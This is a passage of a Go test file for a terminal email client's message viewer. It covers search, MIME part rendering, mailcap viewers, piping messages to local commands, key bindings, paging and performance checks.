		t.Fatalf("after 15 n and 5 N: cur %d, rule %q", m.search.cur, m.rule())
	}
	if v := ansi.Strip(m.View()); !strings.Contains(v, fmt.Sprintf("line %07d the quick brown fox", m.search.hits[10].line)) {
		t.Fatalf("the current hit's line is not on screen:\n%s", v)
	}
	checkWidths(t, m.View(), 80, 24)
}

// feed hands the viewer's own results in msgs back to it, as the root
// does, returning what is left and what that produced.
func feed(m Model, msgs []tea.Msg) (Model, []tea.Msg) {
	var out []tea.Msg
	for _, msg := range msgs {
		if addressed(msg) {
			var cmd tea.Cmd
			m, cmd = m.Update(msg)
			out = append(out, run(cmd)...)
			continue
		}
		out = append(out, msg)
	}
	return m, out
}

// A message/rfc822 or HTML part is parsed or rendered in a Cmd, not in
// Update (which held every key for up to a second on a part of
// megabytes): Enter shows the part as loading, the result fills it in,
// and a result the user no longer waits for is dropped.
func TestShowPartRendersInACmd(t *testing.T) {
	const html = `<p>Hello <b>from</b> the <a href="https://x.example/">HTML part</a></p>`
	inner := "From: a@x.example\r\nSubject: the inner one\r\n\r\ninner body\r\n"
	raw := "From: b@y.example\r\nTo: c@z.example\r\nSubject: outer\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=XX\r\n\r\n" +
		"--XX\r\nContent-Type: text/plain\r\n\r\nouter body\r\n" +
		"--XX\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=a.html\r\n\r\n" + html + "\r\n" +
		"--XX\r\nContent-Type: message/rfc822\r\n\r\n" + inner +
		"--XX--\r\n"
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse([]byte(raw))
	s := v.Summary
	s.Key = "inbox/parts"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: []byte(raw), View: v})
	m, _ = press(t, m, "p")
	open := func(m Model, ct string) (Model, tea.Cmd) {
		for m.part = 0; m.parts[m.part].ContentType != ct; m.part++ {
		}
		m.layout()
		return m.Update(fixture.Key("enter"))
	}
	for _, c := range []struct{ ct, want string }{{"message/rfc822", "inner body"}, {"text/html", "Hello *from* the HTML part [1]"}} {
		m, cmd := open(m, c.ct)
		if cmd == nil || m.mode != modePart || m.inline.nested != nil || m.inline.text != "" {
			t.Fatalf("%s: rendered inside Update (mode %v)", c.ct, m.mode)
		}
		if out := m.View(); !strings.Contains(out, "loading…") || !strings.Contains(out, "part "+strconv.Itoa(m.inline.index)+": "+c.ct) {
			t.Fatalf("%s: no loading state:\n%s", c.ct, out)
		}
		msgs := run(cmd)
		// Back to the parts list before the result: it is dropped.
		back := m
		back.Back()
		if back, _ = feed(back, msgs); back.mode != modeParts {
			t.Fatalf("%s: a result the user left was shown", c.ct)
		}
		m, _ = feed(m, msgs)
		out := m.View()
		if m.inline.loading || !strings.Contains(out, c.want) || strings.Contains(out, "loading…") {
			t.Fatalf("%s: not shown:\n%s", c.ct, out)
		}
		checkWidths(t, out, 80, 24)
	}
}

func TestEnterRendersCopiousOutputWithMailcap(t *testing.T) {
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	mc := filepath.Join(t.TempDir(), "mailcap")
	os.WriteFile(mc, []byte("application/octet-stream; echo never; test=false; copiousoutput\n"+
		"application/*; cat %s; copiousoutput\n"), 0o600)
	t.Setenv("MAILCAPS", mc)
	m, _ := newViewer(t, 100, 30, payroll)
	m, _ = press(t, m, "p", "j", "j") // part 3: application/octet-stream
	p := m.parts[m.part]
	m, msgs := pressAll(t, m, "enter")
	var rendered PartRenderedMsg
	for _, msg := range msgs {
		if r, ok := msg.(PartRenderedMsg); ok {
			rendered = r
		}
	}
	if rendered.Err != nil || rendered.Part != p.Index || !strings.Contains(rendered.Viewer, "cat %s") {
		t.Fatalf("got %#v", msgs)
	}
	// The viewer is the user's cat on a private copy: what it printed is
	// the part, sanitized (the part ends in CRLF).
	if want := strings.ReplaceAll(string(p.Content), "\r\n", "\n"); rendered.Text != want {
		t.Fatalf("rendered %q, want %q", rendered.Text, want)
	}
	if !addressed(rendered) {
		t.Fatal("the root would not route the result to the viewer")
	}
	m, _ = m.Update(rendered)
	if m.mode != modePart || !strings.Contains(m.View(), "sesbox demo") || !strings.Contains(m.View(), "shown by cat %s") {
		t.Fatalf("not shown:\n%s", m.View())
	}
	// The private copy is gone once the viewer has run.
	if es, _ := os.ReadDir(filepath.Join(os.Getenv("XDG_RUNTIME_DIR"), "sesbox")); len(es) != 0 {
		t.Fatalf("left behind: %v", es)
	}
	// A stale result (another message shown) is dropped.
	m2, _ := newViewer(t, 100, 30, korean)
	m2, _ = press(t, m2, "p")
	if m2, _ = m2.Update(rendered); m2.mode != modeParts {
		t.Fatal("a stale rendering was shown")
	}
}

func TestEnterWithoutMailcapEntryUsesOpener(t *testing.T) {
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	t.Setenv("MAILCAPS", filepath.Join(t.TempDir(), "none"))
	m, _ := newViewer(t, 100, 30, photo)
	m, _ = press(t, m, "p")
	for !strings.HasPrefix(m.parts[m.part].ContentType, "image/") {
		m, _ = press(t, m, "j")
	}
	_, msgs := pressAll(t, m, "enter")
	var opened AttachmentOpenedMsg
	for _, msg := range msgs {
		if o, ok := msg.(AttachmentOpenedMsg); ok {
			opened = o
		}
	}
	if opened.Err != nil || opened.Path == "" || !strings.HasPrefix(filepath.Base(opened.Path), "part-") || !strings.HasSuffix(opened.Path, ".png") {
		t.Fatalf("got %#v", msgs)
	}
	defer os.RemoveAll(opened.Dir)
}

func TestNeedsTerminalEntryAsksForTheTerminal(t *testing.T) {
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	mc := filepath.Join(t.TempDir(), "mailcap")
	os.WriteFile(mc, []byte("application/octet-stream; less '%s'; needsterminal\n"), 0o600)
	t.Setenv("MAILCAPS", mc)
	m, _ := newViewer(t, 100, 30, payroll)
	m, _ = press(t, m, "p", "j", "j")
	_, msgs := pressAll(t, m, "enter")
	var req PartExecRequestedMsg
	for _, msg := range msgs {
		if r, ok := msg.(PartExecRequestedMsg); ok {
			req = r
		}
	}
	if !strings.HasPrefix(req.Command, "less '''") || req.Dir == "" {
		t.Fatalf("got %#v", msgs)
	}
	_, cmd := m.Update(req)
	if cmd == nil {
		t.Fatal("no exec command")
	}
	os.RemoveAll(req.Dir)
}

func TestPipeThroughTheKey(t *testing.T) {
	m, _ := newViewer(t, 100, 30, payroll)
	m, _ = press(t, m, "|")
	if !m.Capturing() || !strings.Contains(m.View(), "pipe decoded text to:") {
		t.Fatalf("no pipe prompt:\n%s", m.View())
	}
	m, _ = press(t, m, "tab")
	if !strings.Contains(m.View(), "pipe raw message to:") {
		t.Fatalf("tab did not switch to raw:\n%s", m.View())
	}
	m = typeText(m, "wc -c")
	cmd := m.pipeCommand("wc -c")
	var out bytes.Buffer
	cmd.SetStdin(strings.NewReader("\n")) // the Enter that returns to sesbox
	cmd.SetStdout(&out)
	cmd.SetStderr(&out)
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	size := strconv.Itoa(len(m.Message().Raw))
	if got := strings.Fields(out.String()); len(got) == 0 || got[0] != size || !strings.Contains(out.String(), "press Enter") {
		t.Fatalf("wc -c printed %q, want %s first", out.String(), size)
	}
	m, c := m.Update(fixture.Key("enter"))
	if c == nil || m.Capturing() {
		t.Fatal("enter did not start the pipe")
	}
	// Decoded: the header fields a reader wants and the body text.
	m.pipeRaw = false
	dec := string(m.pipeInput())
	if !strings.HasPrefix(dec, "From: ") || !strings.Contains(dec, "Subject: Updated payroll schedule") || strings.Contains(dec, "Content-Transfer-Encoding") {
		t.Fatalf("decoded input %q", dec)
	}
	// In the parts view the part under the cursor is piped, decoded.
	m, _ = press(t, m, "p", "j", "|")
	if !strings.Contains(m.View(), "pipe part 2 (decoded) to:") || !bytes.Equal(m.pipeInput(), m.parts[1].Content) {
		t.Fatalf("part pipe:\n%s", m.View())
	}
	res := ExternalExitedMsg{Key: m.key, Command: "false", Err: os.ErrInvalid}
	if !addressed(res) {
		t.Fatal("the root would not route the pipe's result")
	}
	_, c = m.Update(res)
	if msgs := run(c); len(msgs) != 1 {
		t.Fatalf("failure not reported: %v", msgs)
	} else if e, ok := msgs[0].(common.ErrorPostedMsg); !ok || !strings.Contains(e.Err.Error(), "false") {
		t.Fatalf("got %#v", msgs[0])
	}
}

// The help said "tab raw/decoded" among the pager's keys, where tab does
// nothing: it acts in the | prompt only, and says so.
func TestHelpListsThePagerKeys(t *testing.T) {
	m, _ := newViewer(t, 100, 30, payroll)
	help := func() string {
		var all []string
		for _, col := range m.FullHelp() {
			for _, b := range col {
				all = append(all, b.Help().Key+" "+b.Help().Desc)
			}
		}
		return strings.Join(all, "\n")
	}
	joined := help()
	for _, want := range []string{"/ search", "n next match", "N prev match", "l links", "v HTML in browser", "| pipe to command", "enter show part / open link", "y copy S3 key", "tab raw/decoded (in the | prompt)"} {
		if !strings.Contains(joined, want) {
			t.Errorf("help lacks %q", want)
		}
	}
	// In the links list y copies the link: the help names that, and
	// not the S3 key as well.
	m, _ = press(t, m, "l")
	if joined := help(); !strings.Contains(joined, "y copy link") || strings.Contains(joined, "y copy S3 key") {
		t.Errorf("the links list's help does not name y once, as copy link:\n%s", joined)
	}
}

func TestPagerViewsStayInsideTheScreen(t *testing.T) {
	for _, size := range [][2]int{{40, 10}, {80, 21}, {120, 33}} {
		w, h := size[0], size[1]
		m, _ := newViewer(t, w, h, newsletter)
		for _, k := range []string{"/", "r", "e", "enter", "n", "l", "j", "l", "p", "enter", "esc"} {
			m, _ = press(t, m, k)
			checkWidths(t, m.View(), w, h)
		}
	}
}

func writeScript(t *testing.T, body string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "browser")
	if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	return p
}

// waitFor polls for a detached program's effect.
func waitFor(t *testing.T, ok func() bool) {
	t.Helper()
	for range 200 {
		if ok() {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("the started program did not run")
}

func TestSearchWideText(t *testing.T) {
	for _, w := range []int{40, 80} {
		m, _ := newViewer(t, w, 21, korean)
		m, _ = doSearch(t, m, "배송")
		if len(m.search.hits) == 0 {
			t.Fatal("no hit in Korean text")
		}
		v := m.View()
		if !strings.Contains(v, "\x1b[7;4m배송\x1b[27;24m") {
			t.Fatalf("Korean hit not highlighted:\n%q", v)
		}
		checkWidths(t, v, w, 21)
	}
}

func TestPipeRawIsExact(t *testing.T) {
	out := filepath.Join(t.TempDir(), "piped.eml")
	m, _ := newViewer(t, 100, 30, korean)
	m.pipeRaw = true
	pc := m.pipeCommand("cat > " + out)
	pc.Wait = false
	if err := pc.Run(); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(out)
	if err != nil || !bytes.Equal(got, m.Message().Raw) {
		t.Fatalf("piped %d bytes, stored %d (%v)", len(got), len(m.Message().Raw), err)
	}
}

func addressed(msg tea.Msg) bool {
	a, ok := msg.(common.Addressed)
	return ok && a.PageKind() == Kind
}

// The rule counts the search's hits in agreement: "1 match", not
// "1 matches" (shown when no hit is current, as after a part is shown).
func TestSearchRuleSaysOneMatch(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	m, _ = doSearch(t, m, "Priya")
	m.search.hits = m.search.hits[:1]
	m.search.cur = -1
	if v := m.rule(); !strings.Contains(v, " 1 match ") {
		t.Fatalf("rule with one hit: %q", v)
	}
}

// n within the hits says nothing on the status line: the rule says which
// match is current, and a notice from a Cmd could arrive after the next
// n's and contradict it.
func TestSearchNextSaysThePositionInTheRuleOnly(t *testing.T) {
	m, _ := newViewer(t, 80, 20, quoted)
	m, _ = doSearch(t, m, "Priya")
	m, msgs := pressAll(t, m, "n")
	if len(notices(msgs)) != 0 {
		t.Fatalf("n notices %q", notices(msgs))
	}
	if !strings.Contains(m.rule(), "match 2/") {
		t.Fatalf("rule after n: %q", m.rule())
	}
}

// TestBigBodyWrapsInACmd: a 5 MB body of one line is wrapped and drawn
// in a Cmd, not in Update (a second with the screen frozen); meanwhile
// the viewer says so and counts as loading, so the root holds the keys
// typed and replays them on the result. A result for an older layout is
// dropped.
func TestBigBodyWrapsInACmd(t *testing.T) {
	raw := []byte("From: a@x.example\r\nSubject: long\r\n\r\n" + strings.Repeat("abcdefghi ", 500000) + "needle\r\n")
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/long"
	cmd := m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	if cmd == nil || !m.Loading() || len(m.lines) != 1 || !strings.Contains(m.View(), "formatting 4.8M…") {
		t.Fatalf("the body was wrapped in SetMessage (%d lines, loading %v):\n%s", len(m.lines), m.Loading(), m.View())
	}
	stale := m
	stale.SetSize(100, 24) // laid out again: the first result is stale
	if stale, _ = stale.Update(cmd()); stale.Loading() || !strings.Contains(stale.View(), "abcdefghi") || len(stale.lines) < 50000 {
		t.Errorf("after a resize: loading %v, %d lines", stale.Loading(), len(stale.lines))
	}
	m, _ = m.Update(cmd())
	if m.Loading() || len(m.lines) < 60000 || !strings.Contains(m.View(), "abcdefghi") {
		t.Fatalf("the wrapped body was not shown (%d lines):\n%s", len(m.lines), m.View())
	}
	m, _ = press(t, m, "G")
	if !strings.Contains(m.View(), "needle") {
		t.Errorf("G does not reach the end:\n%s", m.View())
	}
}

// TestNestedMessagesOpenEveryLevel: p on a nested message shown inline
// lists its own parts, Enter opens a message nested in it, and Esc goes
// back one level at a time: only the first level could be opened.
func TestNestedMessagesOpenEveryLevel(t *testing.T) {
	inner := "From: deep@x.example\r\nSubject: innermost\r\nContent-Type: text/plain\r\n\r\nthe deepest body\r\n"
	middle := "From: mid@x.example\r\nSubject: middle\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=M\r\n\r\n" +
		"--M\r\nContent-Type: text/plain\r\n\r\nthe middle body\r\n--M\r\nContent-Type: message/rfc822\r\n\r\n" + inner + "--M--\r\n"
	raw := []byte("From: top@x.example\r\nSubject: top\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=T\r\n\r\n" +
		"--T\r\nContent-Type: text/plain\r\n\r\nthe top body\r\n--T\r\nContent-Type: message/rfc822\r\n\r\n" + middle + "--T--\r\n")
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/deep"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	open := func(m Model, want string) Model {
		t.Helper()
		m = openNested(t, m)
		if m.mode != modePart || !strings.Contains(m.View(), want) {
			t.Fatalf("enter did not show %q (mode %v):\n%s", want, m.mode, m.View())
		}
		return m
	}
	m, _ = press(t, m, "p")
	m = open(m, "the middle body")
	m, _ = press(t, m, "p")
	if m.mode != modeParts || !strings.Contains(m.View(), "message/rfc822") || strings.Contains(m.View(), "the middle body") {
		t.Fatalf("p on the nested message does not list its parts:\n%s", m.View())
	}
	m = open(m, "the deepest body")
	for i, want := range []struct {
		mode mode
		text string
	}{{modeParts, "message/rfc822"}, {modePart, "the middle body"}, {modeParts, "message/rfc822"}, {modeBody, "the top body"}} {
		if !m.Back() || m.mode != want.mode || !strings.Contains(m.View(), want.text) {
			t.Fatalf("back %d: mode %v, want %v with %q:\n%s", i+1, m.mode, want.mode, want.text, m.View())
		}
	}
	if m.Back() {
		t.Error("back from the body did not close the viewer")
	}
	// Leaving the nested parts by p shows the message's own parts next
	// time.
	m, _ = press(t, m, "p")
	m = open(m, "the middle body")
	m, _ = press(t, m, "p", "p", "p")
	if m.mode != modeParts || len(m.parts) != len(v.Parts) {
		t.Errorf("p p p: mode %v, %d parts, want the message's %d", m.mode, len(m.parts), len(v.Parts))
	}
}

// TestSaveInANestedPartsListSavesThatPart: s on a part of a nested
// message's parts list saves that part: it saved the outer message's part
// of the same number (here its text body instead of the nested message's
// attachment).
func TestSaveInANestedPartsListSavesThatPart(t *testing.T) {
	inner := "From: mid@x.example\r\nSubject: middle\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=M\r\n\r\n" +
		"--M\r\nContent-Type: text/plain\r\n\r\nthe middle body\r\n--M\r\nContent-Type: text/csv; name=\"deep.csv\"\r\nContent-Disposition: attachment; filename=\"deep.csv\"\r\n\r\na,b\r\n1,2\r\n--M--\r\n"
	raw := []byte("From: top@x.example\r\nSubject: top\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=T\r\n\r\n" +
		"--T\r\nContent-Type: text/plain\r\n\r\nthe top body\r\n--T\r\nContent-Type: message/rfc822\r\n\r\n" + inner + "--T--\r\n")
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/nested-save"
	m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})
	m, _ = press(t, m, "p")
	m = openNested(t, m)
	m, _ = press(t, m, "p")
	for !strings.HasPrefix(m.parts[m.part].ContentType, "text/csv") {
		m, _ = press(t, m, "j")
	}
	dir := t.TempDir()
	m, _ = press(t, m, "s")
	m.input.SetValue(dir)
	m, msgs := pressAll(t, m, "enter")
	m, _ = feed(m, msgs)
	got, err := os.ReadFile(filepath.Join(dir, "deep.csv"))
	if err != nil || !strings.Contains(string(got), "a,b") {
		entries, _ := os.ReadDir(dir)
		t.Fatalf("saved %v (%v), want deep.csv holding the nested attachment", entries, err)
	}
}

// openNested moves the parts list's cursor to the next message/rfc822
// part and shows it (Enter, and the Cmd that renders it).
func openNested(t *testing.T, m Model) Model {
	t.Helper()
	for m.parts[m.part].ContentType != "message/rfc822" {
		m, _ = press(t, m, "j")
	}
	m, msgs := pressAll(t, m, "enter")
	m, _ = feed(m, msgs)
	return m
}

// TestLinksListSaysItWasCut: a text of more URLs than mime.MaxTextLinks
// lists that many, and the list's last line says there are more.
func TestLinksListSaysItWasCut(t *testing.T) {
	var body strings.Builder
	for i := range mime.MaxTextLinks + 200 {
		body.WriteString("https://a.example/" + strconv.Itoa(i) + " ")
	}
	raw := []byte("From: a@example.com\r\nSubject: links\r\n\r\n" + body.String() + "\r\n")
	v := mime.Parse(raw)
	m, _ := newViewer(t, 80, 24, korean)
	m.SetMessage(&mailbox.Message{Summary: v.Summary, Raw: raw, View: v})
	m, _ = press(t, m, "l", "G")
	view := m.View()
	if len(m.links) != mime.MaxTextLinks || !strings.Contains(view, "the first 1000 are listed") {
		t.Errorf("%d links; view:\n%s", len(m.links), view)
	}
}

// The pager pages with the keys less, the list and neomutt's index take:
// ctrl+f / ctrl+b as well as space / b and PgDn / PgUp.
func TestPagerPagesWithCtrlFAndCtrlB(t *testing.T) {
	for _, pair := range [][2]string{{" ", "b"}, {"pgdown", "pgup"}, {"ctrl+f", "ctrl+b"}} {
		m, _ := newViewer(t, 80, 20, quoted)
		m, _ = press(t, m, pair[0])
		if m.vp.YOffset != m.vp.Height {
			t.Errorf("%q: offset %d, want a page (%d)", pair[0], m.vp.YOffset, m.vp.Height)
		}
		m, _ = press(t, m, pair[1])
		if m.vp.YOffset != 0 {
			t.Errorf("%q: offset %d, want back at the top", pair[1], m.vp.YOffset)
		}
	}
}

// The pipe and search prompts remember what was entered in them this
// session: Up and Down (ctrl+p, ctrl+n) recall it, as in readline and
// neomutt, and what was being typed comes back below the newest. Piping
// every message to the same command meant typing it again each time.
func TestPromptsRecallEarlierEntries(t *testing.T) {
	m, _ := newViewer(t, 100, 30, payroll)
	for _, c := range []string{"wc -l", "urlview", "wc -l"} {
		m, _ = press(t, m, "|")
		m = typeText(m, c)
		m, _ = m.Update(fixture.Key("enter"))
	}
	m, _ = press(t, m, "|")
	m = typeText(m, "gr")
	for _, step := range []struct{ key, want string }{
		{"up", "wc -l"}, {"up", "urlview"}, {"up", "urlview"}, {"down", "wc -l"}, {"down", "gr"}, {"down", "gr"},
		{"ctrl+p", "wc -l"}, {"ctrl+n", "gr"},
	} {
		m, _ = press(t, m, step.key)
		if got := m.input.Value(); got != step.want {
			t.Fatalf("after %s the pipe prompt holds %q, want %q", step.key, got, step.want)
		}
	}
	m, _ = press(t, m, "up", "esc")
	m, _ = doSearch(t, m, "payroll")
	m, _ = press(t, m, "/", "up")
	if got := m.input.Value(); got != "payroll" {
		t.Fatalf("the search prompt recalls %q, want its own last entry", got)
	}
}

// TestBodyLinesShareTheirStyle: a body's lines share the style of their
// quote depth and are drawn through its template, so opening a body costs
// a few allocations a line: each copied a 552-byte style and was drawn
// through lipgloss, 165 ms for 30,000 short lines. Drawn in colour, every
// line is what lipgloss draws.
func TestBodyLinesShareTheirStyle(t *testing.T) {
	body := strings.Repeat("line\n> quoted\n>> deeper  \u6f22\u5b57\n", 1000)
	raw := []byte("From: a@example.com\r\nSubject: lines\r\n\r\n" + body)
	v := mime.Parse(raw)
	msg := &mailbox.Message{Summary: v.Summary, Raw: raw, View: v}
	m0, _ := newViewer(t, 80, 24, korean)
	allocs := testing.AllocsPerRun(5, func() {
		m := m0
		m.SetMessage(msg)
	})
	if perLine := allocs / 3000; perLine > 3 {
		t.Errorf("%.1f allocations a body line, want at most 3", perLine)
	}
	r := lipgloss.NewRenderer(io.Discard)
	r.SetColorProfile(termenv.TrueColor)
	m := m0
	m.c.Styles = theme.New(r)
	m.SetMessage(msg)
	n := 0
	for _, l := range m.lines {
		for _, s := range l {
			if s.tmpl == nil {
				continue
			}
			n++
			if got, want := s.render(s.text), s.style.Render(s.text); got != want {
				t.Fatalf("%q drawn %q, lipgloss draws %q", s.text, got, want)
			}
		}
	}
	if n < 3000 {
		t.Errorf("%d lines drawn through a template, want the 3000 of the body", n)
	}
}

// A pipe that fails is said once on the status line, the command first:
// it said `false: pipe to "false": exit status 1`, the command twice on
// a line that is cut at the terminal's width.
func TestPipeFailureNamesTheCommandOnce(t *testing.T) {
	m, _ := newViewer(t, 100, 30, payroll)
	cmd := m.pipeCommand("false")
	var out bytes.Buffer
	cmd.SetStdin(strings.NewReader("\n"))
	cmd.SetStdout(&out)
	err := cmd.Run()
	if err == nil || !strings.Contains(out.String(), `[sesbox: pipe to "false": exit status 1 — press Enter to return]`) {
		t.Fatalf("the terminal said %q (%v)", out.String(), err)
	}
	_, c := m.Update(ExternalExitedMsg{Key: m.key, Command: "false", Err: err})
	msgs := run(c)
	if len(msgs) != 1 {
		t.Fatalf("got %v", msgs)
	}
	if e, ok := msgs[0].(common.ErrorPostedMsg); !ok || e.Err.Error() != "false: exit status 1" {
		t.Fatalf("got %#v", msgs[0])
	}
}

// TestResizeStormKeepsTheReadersLine: a big body wrapped again by two
// resizes in a row is shown from the line the reader was on, not from
// the top that the first resize's "formatting" placeholder scrolled to.
func TestResizeStormKeepsTheReadersLine(t *testing.T) {
	raw := []byte("From: a@x.example\r\nSubject: long\r\n\r\n" + strings.Repeat("abcdefghi ", 200000) + "needle\r\n")
	m, _ := newViewer(t, 80, 24, korean)
	v := mime.Parse(raw)
	s := v.Summary
	s.Key = "inbox/long"
	m, _ = m.Update(m.SetMessage(&mailbox.Message{Summary: s, Raw: raw, View: v})())
	m, _ = pressAll(t, m, "j", "j", "j", "j", "j")
	if m.vp.YOffset != 5 {
		t.Fatalf("at line %d after 5 j", m.vp.YOffset)
	}
	m.Resize(100, 24)
	cmd := m.Resize(90, 24)
	m, _ = m.Update(cmd())
	if m.Loading() || m.vp.YOffset != 5 {
		t.Errorf("after two resizes: loading %v, at line %d, want 5", m.Loading(), m.vp.YOffset)
	}
}

// TestNoticesNameTheBoundKeys: the notices that say which key to press
// next name the keys as bound ([keys] in the config), as the other
// notices do: "p lists its parts" and "j/k, then press o again" named the
// defaults whatever the binding.
func TestNoticesNameTheBoundKeys(t *testing.T) {
	c := fixture.Common(80, 24)
	if err := c.Keys.Apply(map[string][]string{"viewer.parts": {"P"}, "viewer.open": {"O"}, "viewer.save": {"W"},
		"viewer.down": {"ctrl+n"}, "viewer.up": {"ctrl+p"}}); err != nil {
		t.Fatal(err)
	}
	m := New(c)
	m.SetSize(80, 24)
	m.SetMessage(fixture.DemoMessage(korean))
	if n := len(m.msg.View.Attachments()); n != 0 || len(m.parts) == 0 {
		t.Fatalf("want a message with parts and no attachment: %d attachments, %d parts", n, len(m.parts))
	}
	_, msgs := press(t, m, "W")
	if got := notices(msgs); len(got) != 1 || got[0] != "this message has no attachments; P lists its parts" {
		t.Errorf("save: %q", got)
	}
	_, msgs = press(t, m, "O")
	if got := notices(msgs); len(got) != 1 || got[0] != "choose a part with ctrl+n/ctrl+p, then press O again" {
		t.Errorf("open: %q", got)
	}
}

// With a hit on every line (10,000 of them, "fox" in a 5 MB body of
// 80,000 lines) each n drew all 10,000 lines again: 160 ms of CPU a key,
// a second between keys on a loaded machine (tried in tmux against
// versitygw). The lines holding hits are drawn once, at the search; n
// draws again only the lines of the hits it leaves and reaches.
func TestNextHitDrawsOnlyTheCurrentHitsLine(t *testing.T) {
	m := foxes(t, 20000)
	if len(m.search.hits) != maxHits {
		t.Fatalf("%d hits, want %d", len(m.search.hits), maxHits)
	}
	if a := testing.AllocsPerRun(3, func() { m.Update(fixture.Key("n")) }); a > 2000 {
		t.Errorf("n allocates %.0f times: it draws every line with a hit", a)
	}
	for want := 1; want <= 3; want++ {
		m, _ = press(t, m, "n")
		if m.search.cur != want || !strings.Contains(m.rule(), fmt.Sprintf(" match %d/10000+ ", want+1)) {
			t.Fatalf("n: cur %d, rule %q", m.search.cur, m.rule())
		}
	}
	checkWidths(t, m.View(), 80, 24)
}
